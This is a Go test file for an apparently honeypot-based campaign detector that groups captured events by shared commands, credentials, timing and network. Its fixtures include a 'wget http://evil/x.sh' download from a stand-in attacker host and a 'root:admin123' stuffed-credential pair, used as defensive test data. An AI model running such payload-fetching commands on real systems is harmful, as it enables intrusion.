package campaign

import (
	"fmt"
	"testing"
	"time"

	"decoynet/pkg/models"
)

func TestDetectCommandCampaigns(t *testing.T) {
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	var events []models.Event
	for i := 0; i < 5; i++ {
		events = append(events, models.Event{
			SourceIP:  fmt.Sprintf("203.0.113.%d", i+1),
			Command:   "wget http://evil/x.sh",
			Timestamp: base.Add(time.Duration(i) * time.Minute),
		})
	}
	// Noise: one IP repeating a different command never qualifies.
	for i := 0; i < 6; i++ {
		events = append(events, models.Event{
			SourceIP:  "198.51.100.1",
			Command:   "uname -a",
			Timestamp: base,
		})
	}

	got := DetectCommandCampaigns(events, Thresholds{}, base.Add(time.Hour))
	if len(got) != 1 {
		t.Fatalf("expected 1 campaign, got %d", len(got))
	}
	c := got[0]
	if c.Type != models.CampaignCommandPattern {
		t.Fatalf("unexpected type %s", c.Type)
	}
	if c.Indicator != "wget http://evil/x.sh" {
		t.Fatalf("unexpected indicator %q", c.Indicator)
	}
	if c.IPCount != 5 || c.EventCount != 5 {
		t.Fatalf("unexpected counts: ips=%d events=%d", c.IPCount, c.EventCount)
	}
	if !c.FirstSeen.Equal(base) || !c.LastSeen.Equal(base.Add(4*time.Minute)) {
		t.Fatalf("unexpected time span: %v..%v", c.FirstSeen, c.LastSeen)
	}
	if !c.IsActive {
		t.Fatalf("expected active campaign")
	}
}

func TestDetectCommandCampaignsBelowThreshold(t *testing.T) {
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	events := []models.Event{
		{SourceIP: "1.1.1.1", Command: "ls", Timestamp: base},
		{SourceIP: "2.2.2.2", Command: "ls", Timestamp: base},
	}
	if got := DetectCommandCampaigns(events, Thresholds{}, base); len(got) != 0 {
		t.Fatalf("expected no campaigns below MinIPs, got %d", len(got))
	}
}

func TestDetectCredentialCampaigns(t *testing.T) {
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	var events []models.Event
	for i := 0; i < 4; i++ {
		events = append(events, models.Event{
			SourceIP:  fmt.Sprintf("203.0.113.%d", i+1),
			Username:  "root",
			Password:  "admin123",
			Timestamp: base,
		})
	}
	events = append(events, models.Event{SourceIP: "9.9.9.9", Timestamp: base})

	got := DetectCredentialCampaigns(events, Thresholds{}, base)
	if len(got) != 1 {
		t.Fatalf("expected 1 campaign, got %d", len(got))
	}
	if got[0].Type != models.CampaignCredentialStuffing || got[0].Indicator != "root:admin123" {
		t.Fatalf("unexpected campaign: %+v", got[0])
	}
	if got[0].IPCount != 4 {
		t.Fatalf("expected 4 IPs, got %d", got[0].IPCount)
	}
}

func TestDetectTimingCampaigns(t *testing.T) {
	bucket := time.Date(2026, 5, 1, 10, 30, 0, 0, time.UTC)
	var events []models.Event
	for i := 0; i < 12; i++ {
		events = append(events, models.Event{
			SourceIP:  fmt.Sprintf("203.0.113.%d", i%4+1),
			Timestamp: bucket.Add(time.Duration(i) * time.Second),
		})
	}
	// A quieter adjacent minute must not qualify.
	events = append(events, models.Event{SourceIP: "8.8.8.8", Timestamp: bucket.Add(90 * time.Second)})

	got := DetectTimingCampaigns(events, Thresholds{}, bucket.Add(time.Hour))
	if len(got) != 1 {
		t.Fatalf("expected 1 campaign, got %d", len(got))
	}
	c := got[0]
	if c.Type != models.CampaignCoordinatedTiming {
		t.Fatalf("unexpected type %s", c.Type)
	}
	if c.Indicator != bucket.Format(time.RFC3339) {
		t.Fatalf("unexpected indicator %q", c.Indicator)
	}
	if c.IPCount != 4 || c.EventCount != 12 {
		t.Fatalf("unexpected counts: ips=%d events=%d", c.IPCount, c.EventCount)
	}
}

func TestDetectNetworkCampaigns(t *testing.T) {
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	attackers := []models.Attacker{
		{IP: "1.0.0.1", ASN: "AS4134", ISP: "Chinanet", TotalEvents: 10, FirstSeen: base, LastSeen: base.Add(time.Hour)},
		{IP: "1.0.0.2", ASN: "AS4134", ISP: "Chinanet", TotalEvents: 8, FirstSeen: base.Add(-time.Hour), LastSeen: base},
		{IP: "1.0.0.3", ASN: "AS4134", ISP: "Chinanet", TotalEvents: 7, FirstSeen: base, LastSeen: base},
		{IP: "2.0.0.1", TotalEvents: 100, FirstSeen: base, LastSeen: base},
	}

	got := DetectNetworkCampaigns(attackers, Thresholds{}, base.Add(2*time.Hour))
	if len(got) != 1 {
		t.Fatalf("expected 1 campaign, got %d", len(got))
	}
	c := got[0]
	if c.Type != models.CampaignNetwork || c.Indicator != "AS4134 (Chinanet)" {
		t.Fatalf("unexpected campaign: %+v", c)
	}
	if c.IPCount != 3 || c.EventCount != 25 {
		t.Fatalf("unexpected counts: ips=%d events=%d", c.IPCount, c.EventCount)
	}
	if !c.FirstSeen.Equal(base.Add(-time.Hour)) || !c.LastSeen.Equal(base.Add(time.Hour)) {
		t.Fatalf("unexpected time span: %v..%v", c.FirstSeen, c.LastSeen)
	}
}

func TestConfidence(t *testing.T) {
	cases := []struct {
		ips    int
		events int64
		want   float64
	}{
		{5, 50, 0.5},
		{10, 100, 1.0},
		{20, 500, 1.0},
		{3, 5, 0.2},
	}
	for _, tc := range cases {
		got := Confidence(tc.ips, tc.events)
		if diff := got - tc.want; diff > 1e-9 || diff < -1e-9 {
			t.Fatalf("Confidence(%d, %d) = %v, want %v", tc.ips, tc.events, got, tc.want)
		}
	}
}

func TestQualifyOrderingAndLimit(t *testing.T) {
	base := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	var events []models.Event
	// Command A from 4 IPs (5 events), command B from 3 IPs (6 events).
	for i := 0; i < 4; i++ {
		events = append(events, models.Event{SourceIP: fmt.Sprintf("10.0.0.%d", i+1), Command: "cmd-a", Timestamp: base})
	}
	events = append(events, models.Event{SourceIP: "10.0.0.1", Command: "cmd-a", Timestamp: base})
	for i := 0; i < 6; i++ {
		events = append(events, models.Event{SourceIP: fmt.Sprintf("10.0.1.%d", i%3+1), Command: "cmd-b", Timestamp: base})
	}

	got := DetectCommandCampaigns(events, Thresholds{}, base)
	if len(got) != 2 {
		t.Fatalf("expected 2 campaigns, got %d", len(got))
	}
	if got[0].Indicator != "cmd-a" || got[1].Indicator != "cmd-b" {
		t.Fatalf("expected IP-count ordering, got %q then %q", got[0].Indicator, got[1].Indicator)
	}
}
